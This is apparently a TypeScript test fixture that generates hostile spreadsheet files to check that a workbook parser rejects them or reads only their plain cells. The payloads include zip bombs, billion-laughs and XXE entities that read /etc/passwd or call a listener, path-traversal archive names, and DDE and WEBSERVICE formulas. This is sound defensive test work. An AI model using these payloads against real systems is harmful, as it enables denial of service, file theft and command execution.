/** Sixty files that mean harm, made by code. `refused`: with sentences; `neutral`: read as the plain cells it also holds, and nothing else of it. */
import { gzipSync } from 'node:zlib'
import {
  compoundFileOf,
  type PackedPart,
  packDeflated,
  type RawWorkbook,
  rawParts,
  rawWorkbook,
  utf8,
} from '../platform/spreadsheets/raw-workbook.ts'
import { packStored } from '../platform/spreadsheets/zip.ts'

export type Hostile = { what: string; expect: 'refused' | 'neutral'; make: () => Uint8Array }

/** Stands only in what must not be read; where it turns up, something was. */
export const canary = 'CANARY-7f3a'
const oneCell = '<sheetData><row r="1"><c r="A1" t="str"><v>xin</v></c></row></sheetData>'
const rows = (inner: string) => `<sheetData>${inner}</sheetData>`
const good: RawWorkbook = { sheet: oneCell, sharedStrings: '', styles: '' }
const parts = () => rawParts(good)
const text = (value: string) => () => utf8(value)
const bytes =
  (hex: string, more = '') =>
  () =>
    new Uint8Array(Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(more)]))
const raw = (more: Partial<RawWorkbook>) => () => rawWorkbook({ ...good, ...more })
/** A workbook with one part replaced, or added. */
const withPart = (name: string, content: string | Uint8Array) => () => {
  const put = typeof content === 'string' ? utf8(content) : content
  const there = parts()
  return packStored(there.some(([n]) => n === name) ? there.map(([n, c]) => [n, n === name ? put : c]) : [...there, [name, put]])
}
const packed = (change: (all: PackedPart[]) => PackedPart[]) => () =>
  packDeflated(change(parts().map(([name, content]) => ({ name, content }))))
const added = (...more: PackedPart[]) => packed((all) => [...all, ...more])
const sheetPart = 'xl/worksheets/sheet1.xml'
const declaring = (doctype: string, root: string, inner = '') =>
  `<?xml version="1.0"?><!DOCTYPE ${root} ${doctype}><${root}>${inner}</${root}>`
const laughs = `[<!ENTITY a "${'ha'.repeat(50)}">${'bcdefgh'
  .split('')
  .map((e, i) => `<!ENTITY ${e} "${`&${'abcdefg'[i]};`.repeat(10)}">`)
  .join('')}]`
const relation = (target: string, mode = '') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="${target}"${mode}/></Relationships>`
/** Changes bytes of a packed file where it names a part in its directory. */
const bent = (change: (file: Buffer, directory: number) => void) => () => {
  const file = Buffer.from(packDeflated(parts().map(([name, content]) => ({ name, content }))))
  // its name stands last in the directory, 46 bytes into its entry
  change(file, file.lastIndexOf(sheetPart) - 46)
  return new Uint8Array(file)
}
const cut = (share: number) => () => {
  const whole = rawWorkbook(good)
  return whole.subarray(0, Math.floor(whole.length * share))
}
const before = (head: string) => () => new Uint8Array(Buffer.concat([Buffer.from(head), Buffer.from(rawWorkbook(good))]))

/** @param listener an address on this machine that nobody may call */
export function hostileFiles(listener: string): Hostile[] {
  const refused = (what: string, make: () => Uint8Array): Hostile => ({ what, expect: 'refused', make })
  const neutral = (what: string, make: () => Uint8Array): Hostile => ({ what, expect: 'neutral', make })
  return [
    // something else under the name of a workbook
    refused('nothing at all', text('')),
    refused('a PDF', text('%PDF-1.7\n1 0 obj')),
    refused('a web page', text('<html><script>alert(1)</script><table><tr><td>1</td></tr></table></html>')),
    refused('an image with a script in it', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
    refused('a program for Windows', bytes('4d5a9000', 'This program cannot be run')),
    refused('a program for Linux', bytes('7f454c46020101')),
    refused('a picture', bytes('89504e470d0a1a0a')),
    refused('a text with formulas', text('=cmd|\' /C calc\'!A0;"=HYPERLINK(1)"')),
    refused('rich text', text('{\\rtf1\\ansi{\\object}}')),
    refused('a packed bomb that is no zip', () => new Uint8Array(gzipSync(Buffer.alloc(30_000_000)))),
    refused('seven-zip', bytes('377abcaf271c')),
    refused('an old workbook with macros', () => compoundFileOf('Workbook', '_VBA_PROJECT_CUR', 'VBA')),
    refused('an encrypted package', () => compoundFileOf('DataSpaces', 'EncryptionInfo', 'EncryptedPackage')),
    refused('an archive of something else', () => packStored([['a.txt', utf8('x')]])),
    refused('an open document', () => packStored([['mimetype', utf8('application/vnd.oasis.opendocument.spreadsheet')]])),
    refused('a Word document', withPart('xl/workbook.xml', '<w:document xmlns:w="u"/>')),
    refused('an archive in an archive', () => packStored([['x.xlsx', rawWorkbook(good)]])),
    refused('half of one', cut(0.5)),
    refused('nearly all of one', cut(0.98)),
    refused('one that is a PDF too', before('%PDF-1.7\n%âãÏÓ\n')),
    refused('one that is a picture too', before('GIF89a\u0001\u0000\u0001\u0000')),
    // bombs and lies of the archive
    refused(
      'a part that unpacks to thirty megabytes of nothing',
      added({ name: 'bomb.xml', content: new Uint8Array(30_000_000) }),
    ),
    refused(
      'a sheet that unpacks to forty megabytes',
      packed((all) => all.map((p) => (p.name === sheetPart ? { ...p, content: new Uint8Array(40_000_000) } : p))),
    ),
    refused(
      'twenty parts of thirty megabytes',
      added(...Array.from({ length: 20 }, (_, i) => ({ name: `b${i}`, content: new Uint8Array(30_000_000) }))),
    ),
    refused(
      'a part that says it is small',
      packed((all) =>
        all.map((p) => (p.name === sheetPart ? { ...p, content: utf8(`${' '.repeat(3_000_000)}<x/>`), declared: 10 } : p)),
      ),
    ),
    refused(
      'a part that says it is four gigabytes',
      packed((all) => all.map((p) => (p.name === sheetPart ? { ...p, declared: 0xffff_fff0 } : p))),
    ),
    refused(
      'a part with a false sum',
      packed((all) => all.map((p) => (p.name === sheetPart ? { ...p, crc: 1 } : p))),
    ),
    refused(
      'two parts of one name',
      packed((all) => [...all, { name: sheetPart, content: utf8(canary) }]),
    ),
    refused(
      'an offset that points outside',
      bent((file, at) => void file.writeUInt32LE(0xffff_0000, at + 42)),
    ),
    refused(
      'an offset that points at itself',
      bent((file, at) => void file.writeUInt32LE(at, at + 42)),
    ),
    refused(
      'a packing that nobody knows',
      bent((file, at) => void file.writeUInt16LE(99, at + 10)),
    ),
    refused(
      'parts that say they are encrypted and are not',
      bent((file, at) => void file.writeUInt16LE(1, at + 8)),
    ),
    refused(
      'more parts than there are',
      bent((file) => void file.writeUInt16LE(65_000, file.length - 12)),
    ),
    neutral(
      'parts that climb out of the folder',
      added({ name: '../../../../etc/cron.d/x', content: utf8(canary) }, { name: 'C:\\x.exe', content: utf8(canary) }),
    ),
    neutral(
      'a part named for the prototype of objects',
      added({ name: '__proto__', content: utf8(canary) }, { name: 'constructor', content: utf8(canary) }),
    ),
    // the XML
    refused(
      'a billion laughs in the sheet',
      withPart(sheetPart, declaring(laughs, 'worksheet', rows('<row r="1"><c r="A1" t="str"><v>&h;</v></c></row>'))),
    ),
    refused('a billion laughs in the texts', withPart('xl/sharedStrings.xml', declaring(laughs, 'sst', '<si><t>&h;</t></si>'))),
    refused('a billion laughs in the styles', withPart('xl/styles.xml', declaring(laughs, 'styleSheet'))),
    refused(
      'an entity that reads a file',
      withPart(
        sheetPart,
        declaring(
          '[<!ENTITY a SYSTEM "file:///etc/passwd">]',
          'worksheet',
          rows('<row r="1"><c r="A1" t="str"><v>&a;</v></c></row>'),
        ),
      ),
    ),
    refused('an entity that calls out', withPart(sheetPart, declaring(`[<!ENTITY a SYSTEM "${listener}">]`, 'worksheet', '&a;'))),
    refused('a definition that calls out', withPart('xl/workbook.xml', declaring(`SYSTEM "${listener}"`, 'workbook'))),
    refused('an entity of parameters', withPart(sheetPart, declaring(`[<!ENTITY % a SYSTEM "${listener}"> %a;]`, 'worksheet'))),
    refused(
      'a definition in another character set',
      withPart(
        sheetPart,
        new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(declaring(laughs, 'worksheet'), 'utf16le')])),
      ),
    ),
    refused(
      'a sheet that breaks off',
      withPart(sheetPart, '<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"><v>1'),
    ),
    neutral(
      'a hundred thousand tags in one another',
      raw({ sheet: `${oneCell}${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}` }),
    ),
    neutral('an attribute of five megabytes', raw({ sheet: `<x a="${'b'.repeat(5_000_000)}"/>${oneCell}` })),
    // the cells
    refused('a text that is not in the table', raw({ sheet: rows('<row r="1"><c r="A1" t="s"><v>7</v></c></row>') })),
    refused('a row twice', raw({ sheet: rows('<row r="2"/><row r="2"/>') })),
    refused('a cell outside its row', raw({ sheet: rows('<row r="2"><c r="A3"><v>1</v></c></row>') })),
    refused('a cell beyond the last column', raw({ sheet: rows('<row r="2"><c r="XFE2"><v>1</v></c></row>') })),
    refused('a row beyond the last', raw({ sheet: rows('<row r="99999999"><c r="A99999999"><v>1</v></c></row>') })),
    neutral(
      'a corner at the very end',
      raw({ sheet: rows('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>') }),
    ),
    neutral(
      'merged ranges over everything',
      raw({ sheet: `${oneCell}<mergeCells>${'<mergeCell ref="A1:XFD1048576"/>'.repeat(2000)}</mergeCells>` }),
    ),
    neutral(
      'numbers that are none',
      raw({ sheet: rows('<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>-1e999</v></c><c r="C1"><v>NaN</v></c></row>') }),
    ),
    neutral(
      'heads named for the prototype of objects',
      raw({ sheet: rows('<row r="1"><c r="A1" t="str"><v>__proto__</v></c><c r="B1" t="str"><v>constructor</v></c></row>') }),
    ),
    // what a spreadsheet program would run or fetch
    neutral(
      'a formula that starts a program',
      raw({ sheet: rows(`<row r="1"><c r="A1" t="str"><f>cmd|' /C ${canary}'!A0</f><v>1</v></c></row>`) }),
    ),
    neutral(
      'a formula that fetches',
      raw({ sheet: rows(`<row r="1"><c r="A1" t="str"><f>WEBSERVICE("${listener}?${canary}")</f><v>1</v></c></row>`) }),
    ),
    neutral('macros', added({ name: 'xl/vbaProject.bin', content: utf8(`Sub Auto_Open ${canary}`) })),
    neutral(
      'the author’s name and an embedded file',
      added(
        { name: 'docProps/core.xml', content: utf8(`<x>${canary}</x>`) },
        { name: 'xl/embeddings/o.bin', content: utf8(canary) },
      ),
    ),
    refused(
      'a sheet that is somewhere else',
      withPart('xl/_rels/workbook.xml.rels', relation(listener, ' TargetMode="External"')),
    ),
    refused(
      'a sheet that is a file of the machine',
      withPart('xl/_rels/workbook.xml.rels', relation('../../../../../etc/passwd')),
    ),
    neutral('a workbook that is its own sheet', withPart('xl/_rels/workbook.xml.rels', relation('workbook.xml'))),
  ]
}
